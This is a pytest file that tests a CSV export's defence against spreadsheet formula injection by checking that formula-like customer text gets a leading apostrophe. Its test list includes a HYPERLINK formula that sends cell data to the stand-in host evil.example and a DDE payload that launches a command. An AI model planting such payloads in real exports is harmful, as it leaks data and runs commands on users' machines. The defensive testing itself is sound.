"""Exported CSV files cannot smuggle formulas into a spreadsheet: text that customers or
integrations wrote (a customer's name, a case, a note) and that starts like a formula is
written with a leading apostrophe, so Excel and LibreOffice show it as text."""

from __future__ import annotations

import csv
import io

import pytest

from servicechain.platform.lib.tabular import spreadsheet_safe
from tests.conftest import sign_in
from tests.security.conftest import private_copy

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_starting_like_a_formula_is_kept_as_text(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["Иван", "CASE-1", "", 12, 12.5, None, "a=b"])
def test_other_values_are_unchanged(value):
    assert spreadsheet_safe(value) == value


@pytest.fixture(scope="module")
async def formula_use(cast):
    from servicechain.goals.authority.service import record_use
    from tests.goals.authority.helpers import make_chain

    async with private_copy():
        chain = await make_chain(cast)
        await record_use(cast.actor("employee"), grantee_id=cast.ids["employee"], scope_id=chain.scope_id, amount=100,
                         case_ref=FORMULAS[1], customer=FORMULAS[0], action=FORMULAS[3])
        yield


async def test_the_authority_ledger_export_writes_formulas_as_text(client, formula_use):
    await sign_in(client, "employee@test.local")
    response = await client.get("/authority/ledger.csv")
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    [row] = [r for r in rows if r["customer"].endswith(FORMULAS[0])]
    assert row["customer"] == "'" + FORMULAS[0]
    assert row["case_ref"] == "'" + FORMULAS[1]
    assert row["what_was_done"] == "'" + FORMULAS[3]
    assert float(row["amount"]) == 1.0  # numbers stay numbers
